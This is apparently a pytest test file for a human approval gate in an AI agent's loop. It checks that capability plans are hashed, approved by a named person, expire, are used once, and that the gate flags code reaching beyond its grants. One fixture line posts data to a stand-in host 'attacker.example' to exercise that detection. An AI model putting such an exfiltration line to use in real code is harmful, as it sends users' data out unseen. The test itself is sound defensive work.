"""Approvals: bound to a plan, given by a person, used up or over by themselves, and race-free."""

from __future__ import annotations

import copy
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roadmap_cli.agent import approvals
from roadmap_cli.core import schemas
from roadmap_cli.core.errors import DataError, Negative, UsageError
from roadmap_cli.why import decisions

sys.path.insert(0, str(Path(__file__).parent))
from bench_ground import open_state

NOW = datetime(2026, 11, 23, 9, tzinfo=UTC)
PLAN = {
    "project": "/project",
    "operations": [
        {"capability": "network", "access": "connect", "group": "example.org"},
        {"capability": "filesystem_read", "access": "read", "group": "/var/log"},
    ],
    "command": ["pytest", "-q"],
}


@pytest.fixture
def state(tmp_path):
    with open_state(tmp_path) as opened:
        yield opened


def ask(tx, plan=PLAN, at=NOW, **more):
    return approvals.request(tx, plan, at=at, command="agent-loop", **more)


def answer(tx, id, is_approved=True, at=NOW, **more):
    return approvals.decide(
        tx, id, is_approved=is_approved, who="ada", why="it is fine", at=at, command="agent-approve approve", **more
    )


def test_a_plan_waits_is_approved_used_once_and_then_over(state):
    with state.write() as tx:
        asked = ask(tx)
        assert asked.status == "waiting"
        assert approvals.standing(tx, asked.plan_hash, NOW) is None
        with pytest.raises(Negative, match="no approval holds") as refused:
            approvals.use(tx, asked.plan_hash, NOW)
        assert refused.value.code == "needs_approval"
        given = answer(tx, asked.id)
        assert (given.status, given.decided_by, given.why) == ("approved", "user:ada", "it is fine")
        assert approvals.standing(tx, asked.plan_hash, NOW) == given
        used = approvals.use(tx, asked.plan_hash, NOW)
        assert (used.status, used.uses) == ("used", 1)
        with pytest.raises(Negative):
            approvals.use(tx, asked.plan_hash, NOW)
        assert ask(tx).id != asked.id, "used up: asked anew"


def test_one_task_asks_once(state):
    with state.write() as tx:
        first = ask(tx, run="run_1")
        turned = {**PLAN, "operations": [*reversed(PLAN["operations"]), PLAN["operations"][0]]}
        assert ask(tx, turned, run="run_1").id == first.id
        assert ask(tx, run="run_2").id != first.id
        assert len(list(approvals.every(tx, NOW))) == 2
        assert approvals.groups(first.plan) == [
            {"capability": "filesystem_read", "access": "read", "targets": ["/var/log"]},
            {"capability": "network", "access": "connect", "targets": ["example.org"]},
        ]


def test_an_approval_of_a_run_is_that_runs_and_one_without_a_run_is_the_plans(state):
    with state.write() as tx:
        one = ask(tx, run="run_1")
        answer(tx, one.id, once=False)
        assert approvals.standing(tx, one.plan_hash, NOW, run="run_1")
        assert approvals.standing(tx, one.plan_hash, NOW, run="run_2") is None
        assert approvals.standing(tx, one.plan_hash, NOW) is None
        answer(tx, ask(tx).id, once=False)
        assert approvals.standing(tx, one.plan_hash, NOW, run="run_2")
        for _ in range(3):
            approvals.use(tx, one.plan_hash, NOW, run="run_1")
        assert approvals.get(tx, one.id, NOW).uses == 3


def _set(plan, path, value):
    changed = copy.deepcopy(plan)
    here = changed
    for key in path[:-1]:
        here = here[key]
    here[path[-1]] = value
    return changed


@pytest.mark.parametrize(
    "changed",
    [
        _set(PLAN, ["project"], "/project2"),
        _set(PLAN, ["command"], ["pytest"]),
        _set(PLAN, ["operations", 0, "group"], "example.com"),
        _set(PLAN, ["operations", 0, "access"], "listen"),
        _set(PLAN, ["operations", 0, "digest"], "00"),
        _set(PLAN, ["operations"], PLAN["operations"][:1]),
        _set(PLAN, ["operations"], [*PLAN["operations"], {"capability": "native"}]),
    ],
)
def test_any_change_of_the_plan_is_another_plan(state, changed):
    assert approvals.plan_hash(changed) != approvals.plan_hash(PLAN)
    with state.write() as tx:
        answer(tx, ask(tx).id, once=False)
        assert approvals.standing(tx, approvals.plan_hash(changed), NOW) is None
        assert ask(tx, changed).status == "waiting"


@given(st.permutations(range(6)), st.lists(st.integers(0, 5), max_size=4))
def test_the_hash_is_of_what_is_asked_and_not_of_how_it_is_written(order, again):
    operations = [{"capability": f"c{n}", "group": f"/g{n}"} for n in range(6)]
    plan = {"project": "/p", "operations": [operations[n] for n in (*order, *again)]}
    assert approvals.plan_hash(plan) == approvals.plan_hash({"operations": operations, "project": "/p"})


def test_requests_and_approvals_end_by_themselves(state):
    later = NOW + timedelta(minutes=31)
    with state.write() as tx:
        asked = ask(tx)
        answer(tx, asked.id, holds=timedelta(minutes=30), once=False)
        assert approvals.standing(tx, asked.plan_hash, NOW + timedelta(minutes=29))
        assert approvals.standing(tx, asked.plan_hash, NOW + timedelta(minutes=30)) is None
        assert approvals.get(tx, asked.id, later).status == "expired"
        with pytest.raises(Negative, match="is expired"):
            answer(tx, asked.id, at=later)
        stale = ask(tx, run="r", waits=timedelta(minutes=5))
        with pytest.raises(Negative, match="is expired"):
            answer(tx, stale.id, at=later)
        assert ask(tx, run="r", at=later).id != stale.id
        with pytest.raises(UsageError):
            answer(tx, ask(tx, run="x").id, holds=timedelta(days=31))


def test_a_denial_stands_and_takes_an_approval_back(state):
    with state.write() as tx:
        asked = ask(tx)
        answer(tx, asked.id, once=False)
        assert answer(tx, asked.id, is_approved=False).status == "denied"
        assert approvals.standing(tx, asked.plan_hash, NOW) is None
        assert ask(tx).id == asked.id, "not asked again while the denial holds"
        with pytest.raises(Negative, match="is denied by user:ada"):
            answer(tx, asked.id)
        assert ask(tx, at=NOW + timedelta(days=2)).status == "waiting"


def test_who_has_seen_another_plan_cannot_approve_this_one(state):
    with state.write() as tx:
        asked = ask(tx)
        for wrong in ("0" * 64, asked.plan_hash[:4], ""):
            with pytest.raises(DataError, match="has hash"):
                answer(tx, asked.id, expected_hash=wrong)
        assert answer(tx, asked.id, expected_hash=asked.plan_hash[:12]).status == "approved"


def test_a_plan_that_was_changed_in_the_state_is_worth_nothing(state):
    with state.write() as tx:
        asked = ask(tx)
        answer(tx, asked.id, once=False)
        tx.execute("UPDATE record SET body = replace(body, '/var/log', '/etc') WHERE id = ?", (asked.id,))
        with pytest.raises(DataError, match="is not what its hash says"):
            approvals.standing(tx, asked.plan_hash, NOW)


def test_the_decision_can_be_explained(state):
    with state.write() as tx:
        asked = ask(tx, run="run_1")
        given = answer(tx, asked.id)
        approvals.use(tx, asked.plan_hash, NOW, run="run_1")
        chain = list(decisions.chain(tx, given.decision_id))
    assert [each["kind"] for each in chain] == ["why.decision", "agent.request"]
    assert (chain[0]["authorised_by"], chain[0]["run_id"], chain[0]["outcome"]) == ("user:ada", "run_1", "used 1 time")
    assert "example.org" in chain[0]["what"]
    assert not list(schemas.problems(given.record()))


@pytest.mark.parametrize(
    "plan",
    [
        {}, {"project": "/p"}, {"project": 1, "operations": []}, {"project": "/p", "operations": [1]},
        {"project": "/p", "operations": [{"access": "read"}]}, {"project": "/p", "operations": [{"capability": "a", "group": 1}]},
        {"project": "/p", "operations": [], "command": "rm"}, {"project": "/p", "operations": [{"capability": "a"}] * 1001},
    ],
)  # fmt: skip
def test_what_is_no_plan_is_refused(plan):
    with pytest.raises(DataError):
        approvals.plan_hash(plan)


def test_ids_may_be_cut_short_as_long_as_they_are_clear(state):
    with state.write() as tx:
        asked = ask(tx)
        assert approvals.get(tx, asked.id[:-4], NOW).id == asked.id
        for unknown in ("agent_", "agent_zzzzzzzz", "%"):
            with pytest.raises(DataError):
                approvals.get(tx, unknown, NOW)


WORKER = """
import sys
from datetime import UTC, datetime
from pathlib import Path
sys.path[:0] = {paths!r}
from bench_ground import open_state
from roadmap_cli.agent import approvals
from roadmap_cli.core.errors import Negative
now = datetime(2026, 11, 23, 9, tzinfo=UTC)
with open_state(Path({folder!r})) as state:
    sys.stdin.readline()
    for _ in range(10):
        with state.write() as tx:
            asked = approvals.request(tx, {plan!r}, at=now, command="agent-loop", run="r")
        try:
            with state.write() as tx:
                approvals.use(tx, asked.plan_hash, now, run="r")
            print("used", asked.id)
        except Negative:
            print("asked", asked.id)
"""


def test_of_processes_that_run_at_once_one_asks_and_one_uses(tmp_path):
    with open_state(tmp_path) as state, state.write() as tx:
        asked = ask(tx, run="r")
        answer(tx, asked.id)
    here = Path(__file__)
    paths = [str(here.parents[3] / "src"), str(here.parent)]
    script = WORKER.format(paths=paths, folder=str(tmp_path), plan=PLAN)
    processes = [
        subprocess.Popen([sys.executable, "-c", script], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        for _ in range(4)
    ]
    for process in processes:
        assert process.stdin
        process.stdin.write("go\n")
        process.stdin.flush()
    lines = [line.split() for process in processes for line in process.communicate(timeout=60)[0].splitlines()]
    assert all(process.returncode == 0 for process in processes)
    assert len(lines) == 40
    assert [id for word, id in lines if word == "used"] == [asked.id], "a single approval is used once"
    again = {id for word, id in lines if word == "asked"} - {asked.id}
    assert len(again) <= 1, "and what is asked after that is asked once"


def test_the_gate_opens_for_what_needs_nothing_or_was_approved_as_it_is(state, tmp_path):
    from roadmap_cli.agent.loop.gate import approach
    from roadmap_cli.agent.sandbox import Grant

    project = tmp_path / "project"
    project.mkdir()
    base = Grant(project)

    def come(text: str, run: str = "run_1"):
        (project / "test_x.py").write_text(text)
        return approach(state, base, ["pytest", "-q"], run=run, at=NOW, command="agent-loop")

    assert come("import subprocess\nsubprocess.run(['ls'])\nexec(x)\n").is_open, "the sandbox holds that by itself"
    text = "open('/var/lib/x')\nimport requests\nrequests.get('http://example.org')\n"
    shut = come(text)
    assert not shut.is_open
    assert shut.grant == base
    assert come(text).request.id == shut.request.id, "asked once"
    assert come(text, run="run_2").request.id != shut.request.id
    with state.write() as tx:
        answer(tx, shut.request.id)
    opened = come(f"# moved\n{text}")
    assert opened.is_open
    assert opened.grant.readable == (Path("/var/lib"),)
    assert (opened.beyond, opened.hosts) == ((), ("example.org",))
    assert not come(text).is_open, "used up"
    assert not come(text.replace("/var/lib", "/etc")).is_open, "another plan"
    same = approach(
        state, base, ["pytest", "-q"], run="run_1", at=NOW, command="agent-loop", contents={"test_x.py": text.encode()}
    )
    assert same.request.plan_hash == shut.request.plan_hash, "from memory it is the same"


def test_what_a_proposal_does_more_than_the_project_did(tmp_path):
    from roadmap_cli.agent.loop.gate import reaches_further
    from roadmap_cli.agent.sandbox import Grant

    was = "import requests\n\ndef get():\n    return requests.get('http://example.org/a')\n"
    files = {"a.py": was.encode()}
    base = Grant(tmp_path)
    assert reaches_further({"a.py": was.replace("/a", "/b") + "\nprint(1)\n"}, files, base) == []
    more = was + "\nopen('/var/lib/x')\nrequests.post('http://attacker.example/', data=get())\n"
    assert reaches_further({"a.py": more}, files, base) == ["filesystem_read /var/lib", "network attacker.example"]
    assert reaches_further({"new.py": "import os\nos.system('ls')\n"}, files, base) == [], "the sandbox holds that"
